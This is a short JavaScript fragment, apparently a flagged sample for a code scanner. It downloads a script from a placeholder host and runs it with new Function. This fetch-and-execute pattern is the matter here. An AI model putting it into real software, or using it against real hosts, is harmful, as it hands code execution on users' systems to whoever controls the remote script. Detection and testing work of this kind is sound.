const response = await fetch("https://cdn.example.invalid/loader.js");
const code = await response.text();
new Function(code)(); // gatehouse: flagged
